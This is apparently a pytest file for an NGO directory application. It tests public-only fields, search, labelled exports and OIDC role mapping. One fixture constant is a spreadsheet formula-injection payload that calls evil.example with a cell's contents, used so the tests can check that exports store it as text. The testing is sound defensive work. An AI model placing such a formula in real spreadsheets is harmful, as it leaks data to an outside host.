"""The public directory read from the registry (both databases): public fields only, search,
labels, exports with an HXL row and no live formula; and the roles an identity provider's
e-mail gets (the ``st.login`` path without a provider)."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import openpyxl
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as hs
from sqlalchemy import Engine

from ngomap.areas.boundaries import embedded_regions
from ngomap.export.directory import directory_csv, directory_xlsx
from ngomap.registry import accounts as ac
from ngomap.registry import db
from ngomap.registry import directory as dr
from ngomap.registry.setup import init

SECRET = "staff-only-directory@embassy.example"
FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Cliquez")'


# What AIS's profile holds in the registry of these tests (conftest's sample_registry).
AIS_CHANGES = {
    "contacts_staff": [{"name": "Chef", "email": SECRET}],
    "contacts_public": [{"name": "Accueil", "email": "info@ais.example"}],
    "country": "France",
    "website": FORMULA,
}


def test_the_directory_has_public_fields_sectors_and_areas(sample_registry: Engine) -> None:
    engine = sample_registry
    found = dr.build(engine)
    assert list(found.table["name"]) == ["Aide Sahel", "Eau Pour Tous", "Jardins du Fleuve"]
    assert SECRET not in found.table.to_csv()
    assert "contacts_staff" not in found.table.columns
    ais = found.table.iloc[0]
    assert ais["contacts_public"] == "Accueil, info@ais.example"
    assert ais["country"] == "France"
    assert ais["sectors"] == ["EDU", "HEA"]
    assert ais["areas"] == ["ML01", "ML02"]  # the file gave codes only
    named = dr.build(engine, boundaries=embedded_regions()).table.iloc[0]
    assert named["areas"] == ["Kayes", "Koulikoro"]
    assert len(found.records) == 5
    staff = dr.build(engine, role=ac.EDITOR)  # the same table: the directory is public fields
    assert SECRET not in staff.table.to_csv()
    shown = dr.labelled(found.table, "fr")
    assert list(shown.columns)[:3] == ["Nom", "Sigle", "Type"]
    assert shown.iloc[0]["Secteurs"] == "Éducation; Santé"
    assert shown.iloc[0]["Type"] == "ONG internationale"


def test_search_by_words_types_and_sectors(sample_registry: Engine) -> None:
    table = dr.build(sample_registry, boundaries=embedded_regions()).table
    assert list(dr.search(table, "eau")["acronym"]) == ["EPT"]
    assert list(dr.search(table, "SANTE kayes")["acronym"]) == ["AIS"]  # accents, case
    assert list(dr.search(table, "wsh")["acronym"]) == ["EPT"]  # a sector code
    assert list(dr.search(table, "hygiène")["acronym"]) == ["EPT"]  # a sector's label
    assert list(dr.search(table, "france")["acronym"]) == ["AIS"]
    assert dr.search(table, "santé ségou").empty  # every word must match
    assert list(dr.search(table, "", org_types=("NNGO",))["acronym"]) == ["JDF"]
    assert list(dr.search(table, "", sectors=("AGR", "WSH"))["acronym"]) == ["EPT", "JDF"]
    assert len(dr.search(table, "   ")) == 3


def test_exports_carry_hxl_public_fields_and_no_formula(sample_registry: Engine) -> None:
    table = dr.build(sample_registry, boundaries=embedded_regions()).table
    rows = list(csv.reader(io.StringIO(directory_csv(table, "en").decode("utf-8-sig"))))
    assert rows[0][:3] == ["Name", "Acronym", "Type"]
    assert rows[1][:3] == ["#org+name", "#org+acronym", "#org+type"]
    assert rows[1][-2:] == ["#sector", "#loc+name"]
    assert len(rows) == 2 + 3
    assert rows[2][rows[0].index("Website")] == "'" + FORMULA  # text, never a formula
    assert SECRET not in str(rows)
    sheet = openpyxl.load_workbook(io.BytesIO(directory_xlsx(table, "fr"))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]
    assert SECRET not in str([c.value for c in cells])


_TABLE = pd.DataFrame(
    {
        "id": [1, 2],
        "name": ["Aide Sahel", "Ségou Solidarité"],
        "acronym": ["AIS", ""],
        "org_type": ["INGO", ""],
        "country": ["France", ""],
        "website": ["", "=1+1"],
        "contacts_public": ["", ""],
        "sectors": [["HEA"], []],
        "areas": [["Kayes"], []],
        "nationwide": [False, True],
    }
)


@settings(max_examples=60, deadline=None)
@given(text=hs.text(max_size=40))
def test_search_never_fails_and_only_narrows(text: str) -> None:
    found = dr.search(_TABLE, text)
    assert set(found["name"]) <= set(_TABLE["name"])
    assert len(dr.labelled(found, "en")) == len(found)


def test_roles_for_an_identity_providers_email(db_url: str) -> None:
    """What ``st.login`` gives, without a provider: the account's role, else the longest
    domain rule, else viewer; an address the provider has not verified is a viewer."""
    from ngomap.ui.access import oidc_person

    init(db_url, empty=True)
    engine = db.engine_for(db_url)
    ac.set_domain_rule(engine, "embassy.example", role="editor")
    ac.set_domain_rule(engine, "ml.embassy.example", role="validator")
    ac.add(engine, "boss@embassy.example", role="admin")  # OpenID Connect only: no password

    def person(email: str, **claims: object) -> tuple[str, str]:
        found = oidc_person(engine, SimpleNamespace(email=email, **claims))
        return found.who, found.role

    assert person("Awa@Embassy.example") == ("awa@embassy.example", "editor")
    assert person("awa@ml.embassy.example", email_verified=True) == (
        "awa@ml.embassy.example",
        "validator",
    )
    assert person("boss@embassy.example") == ("boss@embassy.example", "admin")
    assert person("someone@elsewhere.example") == ("someone@elsewhere.example", "viewer")
    assert person("x@notembassy.example")[1] == "viewer"  # a suffix is not a subdomain
    assert person("awa@ml.embassy.example", email_verified=False)[1] == "viewer"
    assert person("boss@embassy.example", email_verified=False)[1] == "viewer"
